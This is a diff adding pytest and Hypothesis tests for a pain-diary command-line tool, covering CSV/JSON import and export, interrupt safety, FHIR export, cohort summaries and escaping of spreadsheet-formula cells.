+    monkeypatch.setattr(transfer, "read_rows", watching_read_rows)
+    rows = "date,pain\n" + "".join(f"{d(n)},{n % 11}\n" for n in range(1, 31))
+    ok(cli("import", str(write(tmp_path, "thirty.csv", rows))))
+    assert lock_seen == [True]
+    assert writes == [journal]
+    assert len(stored(journal)) == 31
+
+
+def test_ctrl_c_part_way_leaves_the_journal_as_it_was(cli, journal, tmp_path, monkeypatch):
+    before = seed_journal(cli, journal)
+    real = transfer.read_rows
+
+    def interrupted(*args, **kwargs):
+        for n, item in enumerate(real(*args, **kwargs)):
+            if n == 5:
+                raise KeyboardInterrupt
+            yield item
+
+    monkeypatch.setattr(transfer, "read_rows", interrupted)
+    rows = "date,pain\n" + "".join(f"{d(n)},3\n" for n in range(1, 21))
+    result = cli("import", str(write(tmp_path, "rows.csv", rows)))
+    assert result.exit_code == 130
+    assert "nothing was changed" in result.stderr.lower()
+    assert journal.read_bytes() == before
+
+
+CHILD_SIGNAL = r"""
+import os, signal, sys
+from pumpjournal import transfer
+
+real = transfer.read_rows
+which = getattr(signal, sys.argv[1])
+
+
+def read_rows(*args, **kwargs):
+    for n, item in enumerate(real(*args, **kwargs)):
+        if n == 10:
+            os.kill(os.getpid(), which)  # a real signal, part way through the rows
+        yield item
+
+
+transfer.read_rows = read_rows
+from pumpjournal.cli import main
+
+sys.argv = ["pumpjournal", *sys.argv[2:]]
+main()
+"""
+
+
+@pytest.mark.parametrize("sig", ["SIGINT", "SIGKILL"])
+def test_a_real_interrupt_or_crash_part_way_leaves_the_journal_as_it_was(
+        cli, journal, tmp_path, sig):
+    if not hasattr(signal, sig):
+        pytest.skip(f"no {sig} here")
+    before = seed_journal(cli, journal)
+    rows = "date,pain\n" + "".join(f"{d(n)},3\n" for n in range(1, 31))
+    env = {**os.environ, **BASE_ENV, "PUMPJOURNAL_PATH": str(journal)}
+    env.pop("PUMPJOURNAL_DEBUG", None)
+    result = subprocess.run([sys.executable, "-c", CHILD_SIGNAL, sig, "import", "-",
+                             "--format", "csv"], input=rows, env=env, capture_output=True,
+                            text=True, timeout=60)
+    if sig == "SIGINT":
+        assert result.returncode == 130, result.stderr
+        assert "nothing was changed" in result.stderr.lower()
+        assert "Traceback" not in result.stderr
+    else:
+        assert result.returncode == -signal.SIGKILL
+    assert journal.read_bytes() == before
+    # the journal is usable afterwards: the lock was released with the process
+    ok(cli("import", "-", "--format", "csv", input=rows))
+    assert len(stored(journal)) == 31
+
+
+# The summary and --json --------------------------------------------------------------------
+
+
+def test_summary_counts_rows_and_warning_signs(cli, journal, tmp_path):
+    result = ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    counts = summary(result)
+    assert counts["Rows read"] == "5" and counts["Imported"] == "5"
+    assert counts["Updated"] == "0" and counts["Rejected"] == "0"
+    # fever and chills with 100.8 F on one day: one entry with a warning sign
+    assert counts["Entries with warning signs"] == "1"
+    assert "Error" not in result.stderr
+
+
+def test_json_summary_is_the_only_stdout(cli, journal, tmp_path):
+    result = ok(cli("import", str(write(tmp_path, "diary.csv", DIARY)), "--json"))
+    report = json.loads(result.stdout)
+    assert SUMMARY_KEYS <= report.keys()
+    assert (report["rows"], report["imported"], report["rejected"]) == (5, 5, 0)
+    assert report["warning_signs"] == 1 and report["errors"] == []
+    assert report["rejects_file"] is None
+
+
+def test_json_summary_of_a_refused_import_lists_the_errors(cli, journal, tmp_path):
+    result = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)), "--json")
+    assert result.exit_code == 2
+    report = json.loads(result.stdout)
+    assert report["imported"] == 0 and report["rejected"] == 5 and report["rows"] == 8
+    assert report["errors"][0] == {"row": 3, "column": "pain", "value": "11",
+                                   "error": report["errors"][0]["error"]}
+    assert PAIN_ACCEPTED in report["errors"][0]["error"]
+    assert [e["row"] for e in report["errors"]] == [3, 5, 6, 7, 8]
+    assert not journal.exists()
+
+
+def test_json_summary_of_a_conflict(cli, journal, tmp_path):
+    source = write(tmp_path, "diary.csv", DIARY)
+    ok(cli("import", str(source)))
+    result = cli("import", str(source), "--json")
+    assert result.exit_code == 2
+    report = json.loads(result.stdout)
+    assert report["imported"] == 0 and report["conflicts"]
+
+
+# Real processes: stdin and pipes ---------------------------------------------------------
+
+
+def test_import_dash_reads_stdin_in_a_real_process(journal, tmp_path):
+    result = run_input(["import", "-", "--format", "csv"], journal, DIARY)
+    assert result.returncode == 0, result.stderr
+    assert "Imported: 5" in result.stdout
+    assert len(stored(journal)) == 5
+    before = journal.read_bytes()
+    bad = run_input(["import", "-", "--format", "csv", "--json", "--patient", "p009"],
+                    journal, BAD_ROWS)
+    assert bad.returncode == 2
+    assert json.loads(bad.stdout)["rejected"] == 5  # stdout is the JSON only
+    assert "row 3, column pain '11'" in bad.stderr and "Traceback" not in bad.stderr
+    assert journal.read_bytes() == before
+
+
+def test_export_to_stdout_pipes_into_import_from_stdin(journal, tmp_path, cli, proc):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    other = tmp_path / "other" / "journal.json"
+    for fmt in ("csv", "jsonl"):
+        exported = proc("export", "--format", fmt, "--output", "-")
+        assert exported.returncode == 0 and exported.stderr == ""
+        target = other.with_name(f"{fmt}.json")
+        imported = run_input(["import", "-", "--format", fmt], target, exported.stdout)
+        assert imported.returncode == 0, imported.stderr
+        again = run_input(["export", "--format", fmt], target, "")
+        assert again.stdout == exported.stdout
+
+
+def test_import_stdin_with_bom_and_crlf_in_a_real_process(journal):
+    data = "\ufeff" + PLAIN.replace("\n", "\r\n")
+    result = run_input(["import", "-", "--format", "csv"], journal, data)
+    assert result.returncode == 0, result.stderr
+    assert [e["note"] for e in stored(journal)] == ["café", "ok"]
+
+
+# Export ------------------------------------------------------------------------------------
+
+
+def test_export_csv_has_the_documented_columns_oldest_first_by_person(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY[:DIARY.index("\n") + 1]
+                                + "\n".join(reversed(DIARY.strip().splitlines()[1:]))))))
+    rows = list(csv.reader(io.StringIO(ok(cli("export", "--format", "csv")).stdout)))
+    assert rows[0] == CSV_COLUMNS
+    assert [(r[0], r[1]) for r in rows[1:]] == [("p001", d(1)), ("p001", d(2)), ("p001", d(3)),
+                                                ("p002", d(1)), ("p002", d(2))]
+    third = dict(zip(CSV_COLUMNS, rows[3]))
+    assert third["symptoms"] == "fever;chills" and third["temperature_c"] == "38.22"
+    assert third["temperature"] == "100.8 F"
+
+
+def test_export_filters_by_patient_and_dates(cli, cli_json, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    lines = ok(cli("export", "--format", "jsonl", "--patient", "p001", "--since", d(2),
+                   "--until", d(3))).stdout.splitlines()
+    assert [(e["patient"], e["date"]) for e in map(json.loads, lines)] == [("p001", d(2)),
+                                                                            ("p001", d(3))]
+    whole = json.loads(ok(cli("export", "--format", "json", "--since", d(2))).stdout)
+    assert [(e["patient"], e["date"]) for e in whole] == [("p001", d(2)), ("p001", d(3)),
+                                                          ("p002", d(2))]
+    assert set(whole[0]) == set(CSV_COLUMNS)
+    assert json.loads(ok(cli("export", "--format", "json", "--patient", "nobody")).stdout) == []
+    assert cli("export", "--since", d(3), "--until", d(1)).exit_code == 2
+
+
+def test_export_to_a_file_is_private_and_never_replaced_without_force(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    target = tmp_path / "out.jsonl"
+    result = ok(cli("export", "--output", str(target)))  # the format from the name
+    assert result.stdout == ""
+    assert "Exported 5 entries" in result.stderr
+    assert target.stat().st_mode & 0o777 == 0o600
+    assert len([json.loads(x) for x in target.read_text().splitlines()]) == 5
+    target.write_text("keep me")
+    again = cli("export", "--output", str(target))
+    assert again.exit_code == 2 and "--force" in again.stderr
+    assert target.read_text() == "keep me"
+    ok(cli("export", "--output", str(target), "--force"))
+    assert target.read_text().count("\n") == 5
+
+
+def test_export_refuses_an_unknown_format(cli, journal):
+    result = cli("export", "--format", "xlsx")
+    assert result.exit_code == 2 and "csv" in result.stderr and result.stdout == ""
+
+
+def test_hostile_cells_are_exported_with_a_quote_and_come_back_exact(cli, journal, tmp_path):
+    rows = [{"date": d(n + 1), "pain": 3, "note": text, "questions": [text]}
+            for n, text in enumerate(HOSTILE)]
+    ok(cli("import", str(write(tmp_path, "h.jsonl",
+                                "".join(json.dumps(r) + "\n" for r in rows)))))
+    exported = ok(cli("export", "--format", "csv")).stdout
+    parsed = list(csv.DictReader(io.StringIO(exported)))
+    assert [r["note"] for r in parsed] == ["'" + text for text in HOSTILE]
+    assert [r["questions"] for r in parsed] == ["'" + text for text in HOSTILE]
+    for row in parsed:
+        assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
+    other = tmp_path / "other" / "journal.json"
+    ok(cli("--journal", str(other), "import", "-", "--format", "csv", input=exported))
+    assert [e["note"] for e in stored(other)] == HOSTILE
+    assert [e["questions"] for e in stored(other)] == [[text] for text in HOSTILE]
+    assert ok(cli("--journal", str(other), "export", "--format", "csv")).stdout == exported
+
+
+def rich_journal(cli, tmp_path) -> None:
+    """A journal with every field used, several people, and awkward text."""
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    extra = [
+        {"patient": "p003", "date": d(1), "pain": 0, "worst": 10, "least": 0, "average": 5,
+         "symptoms": ["leg-weakness", "fever"], "temperature": "37,9 c",
+         "temperature_site": "forehead", "boluses": 100, "sleep": 0, "mood": 0,
+         "note": 'line one\nline two, "quoted"; semi', "questions": ["first?", "second?"],
+         "contacted": True},
+        {"patient": "p003", "date": d(2), "pain": 10, "note": "ümlaut ✓ 日本", "contacted": False,
+         "temperature": "101 °F", "sleep": 23.75},
+        {"patient": "p003", "date": d(3), "pain": 1, "note": HOSTILE[0]},
+    ]
+    ok(cli("import", str(write(tmp_path, "extra.jsonl",
+                                "".join(json.dumps(e) + "\n" for e in extra)))))
+    ok(cli("log", "--pain", "4", "--date", d(30), "--patient", "p003", "--question", "why?"))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
+def test_export_import_export_gives_the_same_bytes(cli, journal, tmp_path, fmt):
+    rich_journal(cli, tmp_path)
+    first = ok(cli("export", "--format", fmt)).stdout
+    assert first.count("p003") >= 4
+    other = tmp_path / "empty" / "journal.json"
+    ok(cli("--journal", str(other), "import", "-", "--format", fmt, input=first))
+    assert ok(cli("--journal", str(other), "export", "--format", fmt)).stdout == first
+    assert stored(other) == stored(journal)
+
+
+def test_a_note_that_begins_with_an_apostrophe_survives_the_round_trip(cli, journal,
+                                                                       tmp_path):
+    """Only the ' that export adds is taken off again: a note the person wrote as
+    "'=not a formula" stays exactly that through JSONL and CSV."""
+    note = "'=not a formula"
+    ok(cli("log", "--pain", "3", "--date", d(1), "--note", note))
+    for fmt in ("jsonl", "csv"):
+        first = ok(cli("export", "--format", fmt)).stdout
+        other = tmp_path / fmt / "journal.json"
+        ok(cli("--journal", str(other), "import", "-", "--format", fmt, input=first))
+        assert [e["note"] for e in stored(other)] == [note], fmt
+        assert ok(cli("--journal", str(other), "export", "--format", fmt)).stdout == first
+
+
+def test_a_question_with_a_line_break_survives_the_csv_round_trip(cli, journal, tmp_path):
+    ok(cli("log", "--pain", "3", "--date", d(1), "--question", "Is this normal?\nIt started "
+           "on Monday.", "--question", "Can we lower the dose?"))
+    questions = stored(journal)[0]["questions"]
+    assert len(questions) == 2
+    first = ok(cli("export", "--format", "csv")).stdout
+    other = tmp_path / "other" / "journal.json"
+    ok(cli("--journal", str(other), "import", "-", "--format", "csv", input=first))
+    assert stored(other)[0]["questions"] == questions
+
+
+# JSON and JSONL rows are read one by one, not by the first row's keys -------------------------
+
+
+def test_jsonl_keys_missing_from_the_first_row_are_not_dropped(cli, journal, tmp_path):
+    source = write(tmp_path, "rows.jsonl",
+                   json.dumps({"date": d(1), "pain": 3}) + "\n"
+                   + json.dumps({"date": d(2), "pain": 4, "note": "kept",
+                                 "symptoms": ["fever"]}) + "\n")
+    ok(cli("import", str(source)))
+    assert [(e["note"], e["symptoms"]) for e in stored(journal)] == [(None, []),
+                                                                     ("kept", ["fever"])]
+
+
+def test_jsonl_unknown_key_after_the_first_row_is_an_error_naming_it(cli, journal, tmp_path):
+    source = write(tmp_path, "rows.jsonl",
+                   json.dumps({"date": d(1), "pain": 3}) + "\n"
+                   + json.dumps({"date": d(2), "pain": 4, "paine": 9}) + "\n")
+    error = refused(cli("import", str(source)), journal, None)
+    assert "paine" in error
+
+
+def test_a_broken_first_jsonl_line_is_a_row_error_not_the_whole_file(cli, journal, tmp_path):
+    source = write(tmp_path, "rows.jsonl", "{not json\n"
+                   + json.dumps({"date": d(2), "pain": 4}) + "\n"
+                   + json.dumps({"date": d(3), "pain": 5}) + "\n")
+    error = refused(cli("import", str(source)), journal, None)
+    assert "row 1" in error
+    result = cli("import", str(source), "--skip-invalid", "--rejects",
+                 str(tmp_path / "rejects.jsonl"))
+    assert result.exit_code == 2
+    assert summary(result)["Imported"] == "2" and summary(result)["Rejected"] == "1"
+    assert [e["date"] for e in stored(journal)] == [d(2), d(3)]
+
+
+@pytest.mark.parametrize("first, second", [(True, 1), (1, True)])
+def test_json_true_is_not_taken_for_pain_1(cli, journal, tmp_path, first, second):
+    """`true` is not a pain score; the row with 1 is good, whichever comes first."""
+    rows = [{"date": d(1), "pain": first}, {"date": d(2), "pain": second}]
+    source = write(tmp_path, "rows.json", json.dumps(rows))
+    result = cli("import", str(source), "--skip-invalid", "--rejects",
+                 str(tmp_path / "rejects.json"), "--json")
+    report = json.loads(result.stdout)
+    bad_row = 1 if first is True else 2
+    assert [(e["row"], e["value"]) for e in report["errors"]] == [(bad_row, True)]
+    assert [(e["date"], e["pain"]) for e in stored(journal)] == [(d(3 - bad_row), 1)]
+
+
+# FHIR ------------------------------------------------------------------------------------
+
+
+def fhir_bundle(cli, *args: str) -> dict:
+    return json.loads(ok(cli("export", "--format", "fhir", *args)).stdout)
+
+
+def resources(bundle: dict, kind: str) -> list[dict]:
+    return [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == kind]
+
+
+def test_fhir_bundle_holds_patients_and_coded_observations(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    bundle = fhir_bundle(cli)
+    assert bundle["resourceType"] == "Bundle" and bundle["type"] == "collection"
+    patients = resources(bundle, "Patient")
+    assert [p["identifier"] for p in patients] == [
+        [{"system": "urn:pumpjournal:patient", "value": "p001"}],
+        [{"system": "urn:pumpjournal:patient", "value": "p002"}]]
+    observations = resources(bundle, "Observation")
+    ids = {f"Patient/{p['id']}" for p in patients}
+    assert {o["subject"]["reference"] for o in observations} == ids
+    day3 = [o for o in observations if o["effectiveDateTime"] == d(3)
+            and o["subject"]["reference"] == f"Patient/{patients[0]['id']}"]
+    pain = [o for o in day3 if o["code"]["coding"] and o["code"]["coding"][0]["code"]
+            == "72514-3"]
+    assert sorted(o["valueInteger"] for o in pain) == [6, 6]  # pain now and average
+    assert {o["code"]["coding"][0]["system"] for o in pain} == {"http://loinc.org"}
+    assert len({o["code"]["text"] for o in pain}) == 2
+    temperature = [o for o in day3 if o["code"]["coding"]
+                   and o["code"]["coding"][0]["code"] == "8310-5"]
+    assert [o["valueQuantity"] for o in temperature] == [
+        {"value": 38.22, "unit": "Cel", "system": "http://unitsofmeasure.org", "code": "Cel"}]
+    assert temperature[0]["category"][0]["coding"][0]["code"] == "vital-signs"
+    fever = [o for o in day3 if o.get("valueBoolean") is True
+             and {"system": "http://snomed.info/sct", "code": "386661006"}
+             in o["code"]["coding"]]
+    assert len(fever) == 1
+    assert sum(o.get("valueBoolean") is True for o in day3) == 2  # fever and chills
+    # worst (8) and least (4) pain have no LOINC code and are left out
+    assert not [o for o in day3 if o.get("valueInteger") in (8, 4)]
+    assert all(o["status"] == "final" for o in observations)
+
+
+def test_fhir_export_for_one_patient(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    target = tmp_path / "p002.json"
+    ok(cli("export", "--format", "fhir", "--patient", "p002", "--output", str(target)))
+    bundle = json.loads(target.read_text())
+    assert [p["id"] for p in resources(bundle, "Patient")] == ["p002"]
+    assert {o["effectiveDateTime"] for o in resources(bundle, "Observation")} == {d(1), d(2)}
+    assert json.loads(ok(cli("export", "--format", "fhir", "--patient", "nobody")).stdout)[
+        "entry"] == []
+
+
+def _empty_parts(node, where="$"):
+    """Paths of empty arrays, objects and strings: FHIR JSON allows none of them."""
+    if isinstance(node, dict):
+        if not node:
+            yield where
+        for key, value in node.items():
+            yield from _empty_parts(value, f"{where}.{key}")
+    elif isinstance(node, list):
+        if not node:
+            yield where
+        for n, value in enumerate(node):
+            yield from _empty_parts(value, f"{where}[{n}]")
+    elif node == "":
+        yield where
+
+
+def test_fhir_bundle_has_no_empty_arrays(cli, journal, tmp_path):
+    """FHIR JSON: "empty arrays are not allowed". A symptom without a verified SNOMED code
+    is coded by text only, with no empty `coding` array."""
+    source = write(tmp_path, "s.csv", f"date,pain,symptoms\n{d(1)},3,incision-soreness;fever\n")
+    ok(cli("import", str(source)))
+    bundle = fhir_bundle(cli)
+    assert list(_empty_parts(bundle)) == []
+    soreness = [o for o in resources(bundle, "Observation")
+                if o["code"]["text"] == cat.BY_ID["incision-soreness"].label]
+    assert len(soreness) == 1 and soreness[0]["valueBoolean"] is True
+
+
+def test_fhir_patient_ids_are_valid_fhir_ids(cli, journal, tmp_path):
+    """Participant ids may hold '_' (`sub_01`); a FHIR id may not ([A-Za-z0-9-.]{1,64}), so
+    the Patient's id and the references to it must be valid ids all the same."""
+    ok(cli("import", str(write(tmp_path, "s.csv", f"participant_id,date,pain\nsub_01,{d(1)},3\n"
+                                                   f"sub_02,{d(1)},4\n"))))
+    bundle = fhir_bundle(cli)
+    patients = resources(bundle, "Patient")
+    assert [p["identifier"][0]["value"] for p in patients] == ["sub_01", "sub_02"]
+    assert all(FHIR_ID.match(p["id"]) for p in patients), [p["id"] for p in patients]
+    assert len({p["id"] for p in patients}) == 2
+    refs = {o["subject"]["reference"] for o in resources(bundle, "Observation")}
+    assert refs == {f"Patient/{p['id']}" for p in patients}
+
+
+def test_fhir_bundle_of_an_empty_journal_is_valid_json(cli, journal):
+    bundle = fhir_bundle(cli)
+    assert bundle["resourceType"] == "Bundle" and bundle["entry"] == []
+
+
+# cohort --------------------------------------------------------------------------------------
+
+
+def test_cohort_lists_each_person(cli, cli_json, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    rows = cli_json("cohort")
+    by = {r["patient"]: r for r in rows}
+    assert list(by) == ["p001", "p002"]
+    assert (by["p001"]["days_logged"], by["p001"]["first"], by["p001"]["last"]) == (3, d(1),
+                                                                                 d(3))
+    assert by["p001"]["mean_pain"] == 5.0 and by["p002"]["mean_pain"] == 3.0
+    assert by["p001"]["episodes"] >= 1 and by["p001"]["urgent_episodes"] >= 1
+    assert by["p002"]["urgent_episodes"] == 0
+    text = ok(cli("cohort")).stdout.splitlines()
+    assert "days" in text[0] and "mean pain" in text[0] and "episodes" in text[0]
+    line = next(x for x in text if x.startswith("p001"))
+    assert line.split()[:5] == ["p001", "3", d(1), d(3), "5.0"]
+    assert next(x for x in text if x.startswith("p002")).split()[:5] == ["p002", "2", d(1),
+                                                                         d(2), "3.0"]
+
+
+def test_cohort_mean_pain_is_over_the_days_logged(cli, cli_json, journal, tmp_path):
+    source = write(tmp_path, "gaps.csv", f"patient,date,pain\nx,{d(1)},2\nx,{d(10)},5\n"
+                   f"x,{d(20)},6\n")
+    ok(cli("import", str(source)))
+    (row,) = cli_json("cohort")
+    assert row["days_logged"] == 3 and row["mean_pain"] == 4.33
+    since = cli_json("cohort", "--since", d(5))
+    assert since[0]["days_logged"] == 2 and since[0]["first"] == d(10)
+
+
+def test_cohort_of_an_empty_journal(cli, cli_json, journal):
+    assert cli_json("cohort") == []
+    result = ok(cli("cohort"))
+    assert result.stdout == "" and "nobody" in result.stderr
+
+
+# Library use -----------------------------------------------------------------------------
+
+
+def test_the_readme_library_example(cli, journal, tmp_path, monkeypatch):
+    folder = tmp_path / "notebook"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    ok(cli("--journal", "journal.json", "import", str(write(tmp_path, "diary.csv", DIARY))))
+    journal = Journal("journal.json")
+    found = [(e.date, e.pain, e.symptoms) for e in journal.entries(since=None)]
+    assert sorted(found) == [(d(1), 3, []), (d(1), 5, []), (d(2), 3, ["headache"]),
+                             (d(2), 4, ["incision-soreness"]), (d(3), 6, ["fever", "chills"])]
+    assert journal.patients() == ["p001", "p002"]
+
+
+def test_import_rows_and_export_without_the_cli(tmp_path):
+    journal = Journal(tmp_path / "lib" / "journal.json")
+    with journal.transaction(backup="import") as tx:
+        result = transfer.import_rows(
+            tx, transfer.read_rows(io.StringIO(DIARY, newline=""), "csv"),
+            default_patient=None, stamp=STAMP)
+    assert (result.rows, result.imported, result.rejected, result.written) == (5, 5, 0, True)
+    out = io.StringIO()
+    count = transfer.export(journal.read(), out, "jsonl", patient="p002")
+    assert count == 2
+    lines = [json.loads(line) for line in out.getvalue().splitlines()]
+    assert [(e["date"], e["pain"], e["logged_at"]) for e in lines] == [(d(1), 3, STAMP),
+                                                                       (d(2), 3, STAMP)]
+    with journal.transaction() as tx:
+        bad = transfer.import_rows(tx, [(2, {"date": d(9), "pain": "11"})],
+                                   default_patient="p002")
+    assert bad.written is False and bad.errors[0].row == 2
+    assert len(journal.entries()) == 5
+
+
+# Hypothesis: random rows through import_rows ----------------------------------------------
+
+
+SYMPTOM_IDS = [s.id for s in cat.SYMPTOMS]
+SCORE = st.one_of(st.integers(-3, 13), st.sampled_from(
+    ["5", " 7 ", "11", "-1", "x", "5.5", "5.0", "", "ten", True, False, None, 4.0, 2.5,
+     float("nan"), 10 ** 30, [], {}]))
+TEMPERATURE = st.one_of(
+    st.sampled_from(["38.2", "100.8F", "37,9 c", "101 °F", "hot", "200", "", None, 38, 38.5,
+                     "29.9", "45.0", "113 F", "38..2", "-38", "1e2", [], "9" * 40]),
+    st.floats(allow_nan=True, allow_infinity=True))
+DAY = st.one_of(
+    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
+    st.dates(min_value=date(2024, 12, 1), max_value=date(2025, 6, 5)).map(date.isoformat),
+    st.sampled_from(["2025-02-30", "01/10/2025", "", None, "yesterday", 20250101, "2025-1-5",
+                     " 2025-01-05 ", "2025-01-05T10:00"]))
+SYMPTOMS = st.one_of(
+    st.lists(st.sampled_from(SYMPTOM_IDS + ["feverr", "", "FEVER", "leg_numbness", " chills"]),
+             max_size=4).map(";".join),
+    st.lists(st.sampled_from(SYMPTOM_IDS + ["nope", 1]), max_size=3),
+    st.sampled_from([None, 3, {"fever": 1}]))
+PATIENT = st.sampled_from([None, "p1", "p2", "bad id!", "", "-x", 7])
+ROW = st.fixed_dictionaries({
+    "patient": PATIENT, "date": DAY, "pain": SCORE, "worst": SCORE, "least": SCORE,
+    "average": SCORE, "temperature": TEMPERATURE, "symptoms": SYMPTOMS})
+
+
+def run_import(rows, **options):
+    view = View(empty_data())
+    try:
+        result = transfer.import_rows(view, list(enumerate(rows, start=2)),
+                                      default_patient="me", today=TODAY, stamp=STAMP,
+                                      **options)
+    except InputError:
+        result = None
+    return view, result
+
+
+@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
+@given(rows=st.lists(ROW, min_size=1, max_size=8))
+def test_random_rows_all_go_in_or_none_and_only_input_errors_are_raised(rows):
+    view, result = run_import(rows)  # anything but InputError fails the test here
+    count = len(view.entries_table)
+    if result is None or result.errors:
+        assert count == 0 and not view.storage.changed
+        assert result is None or not result.written
+    else:
+        assert count == len(rows) == result.imported and result.written
+        assert result.rejected == 0
+
+
+@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
+@given(rows=st.lists(ROW, min_size=1, max_size=8))
+@example(rows=[{"date": "2025-01-01", "pain": True}, {"date": "2025-01-02", "pain": 1}])
+@example(rows=[{"date": "2025-01-01", "pain": 1}, {"date": "2025-01-02", "pain": True}])
+def test_random_rows_are_judged_one_by_one_whatever_their_neighbours(rows):
+    """With --skip-invalid, a row goes in exactly when it would go in alone (apart from the
+    same person and day twice in one file); its neighbours' values change nothing."""
+    view, result = run_import(rows, skip_invalid=True)
+    if result is None:
+        return
+    errors = {e.row: e.message for e in result.errors}
+    assert result.imported + result.rejected == len(rows)
+    assert len(view.entries_table) == result.imported
+    for number, row in enumerate(rows, start=2):
+        _, alone = run_import([row], skip_invalid=True)
+        if number in errors and "same person and date" in errors[number]:
+            continue
+        assert (number in errors) == bool(alone.errors), (number, row, errors.get(number),
+                                                          alone.errors)
+
+
+# Hypothesis: round trip of random valid entries -----------------------------------------
+
+
+NOTE_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x85")
+                    | st.just("\n"), max_size=25)
+NOTE = st.one_of(st.none(), st.tuples(st.sampled_from(["", "'", "=", "'=", "-", "+", "@", "'-",
+                                                       "''+", " "]), NOTE_TEXT)
+                 .map("".join))
+QUESTION = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x85")
+                   | st.just("\n"), min_size=1, max_size=20)
+
+
+@st.composite
+def valid_entries(draw):
+    keys = draw(st.lists(st.tuples(st.sampled_from(["me", "p001", "p_2", "A-3"]),
+                                   st.integers(0, 400)),
+                         min_size=1, max_size=6, unique=True))
+    rows = []
+    for patient, offset in keys:
+        low, high = sorted(draw(st.lists(st.integers(0, 10), min_size=2, max_size=2)))
+        row = {"patient": patient, "date": (TODAY - timedelta(days=offset)).isoformat(),
+               "pain": draw(st.integers(0, 10))}
+        if draw(st.booleans()):
+            row.update(least=low, worst=high, average=draw(st.integers(low, high)))
+        row["symptoms"] = draw(st.lists(st.sampled_from(SYMPTOM_IDS), max_size=3, unique=True))
+        row["temperature"] = draw(st.one_of(st.none(), st.sampled_from(
+            ["38.2", "100.8 F", "37,9 c", "36.55", "101 °F", "37"])))
+        row["temperature_site"] = draw(st.one_of(st.none(), st.sampled_from(
+            ["mouth", "ear", "not-sure"])))
+        row["boluses"] = draw(st.one_of(st.none(), st.integers(0, 100)))
+        row["sleep"] = draw(st.one_of(st.none(), st.sampled_from([0, 6.5, 7, 23.75, "8,5"])))
+        row["mood"] = draw(st.one_of(st.none(), st.integers(0, 10)))
+        row["note"] = draw(NOTE)
+        row["questions"] = draw(st.lists(QUESTION, max_size=2))
+        row["contacted"] = draw(st.sampled_from([None, True, False]))
+        rows.append(row)
+    return rows
+
+
+def export_text(view, fmt: str) -> str:
+    out = io.StringIO(newline="")
+    transfer.export(view, out, fmt)
+    return out.getvalue()
+
+
+def logged_view(rows) -> View:
+    """A journal holding ``rows`` as `log` stores them (validated the same way)."""
+    view = View(empty_data())
+    for row in rows:
+        values = model.validate_fields({k: v for k, v in row.items()
+                                        if k not in ("patient", "date", "contacted")})
+        if row["contacted"] is not None:
+            values["contacted"] = row["contacted"]
+        view.log(row["patient"], date.fromisoformat(row["date"]), values, STAMP)
+    return view
+
+
+def round_trip(rows, fmt: str):
+    first_view = logged_view(rows)
+    first = export_text(first_view, fmt)
+    second_view = View(empty_data())
+    again = transfer.import_rows(second_view, transfer.read_rows(io.StringIO(first, newline=""),
+                                                                 fmt),
+                                 default_patient="me", today=TODAY, stamp="2000-01-01T00:00:00")
+    assert not again.errors, again.errors
+    return first_view, second_view, first
+
+
+def one_entry(**values) -> list[dict]:
+    row = {"patient": "me", "date": "2025-01-05", "pain": 3, "symptoms": [], "temperature": None,
+           "temperature_site": None, "boluses": None, "sleep": None, "mood": None, "note": None,
+           "questions": [], "contacted": None}
+    return [{**row, **values}]
+
+
+@settings(max_examples=120)
+@given(rows=valid_entries())
+@example(rows=one_entry(note="'=not a formula"))
+def test_round_trip_jsonl_gives_the_same_bytes(rows):
+    first_view, second_view, first = round_trip(rows, "jsonl")
+    assert export_text(second_view, "jsonl") == first
+
+
+@settings(max_examples=120)
+@given(rows=valid_entries())
+@example(rows=one_entry(note="'-- felt better"))
+@example(rows=one_entry(questions=["Is this normal?\nIt began on Monday."]))
+def test_round_trip_csv_gives_the_same_bytes_and_the_same_entries(rows):
+    first_view, second_view, first = round_trip(rows, "csv")
+    assert export_text(second_view, "csv") == first
+    assert export_text(second_view, "jsonl") == export_text(first_view, "jsonl")
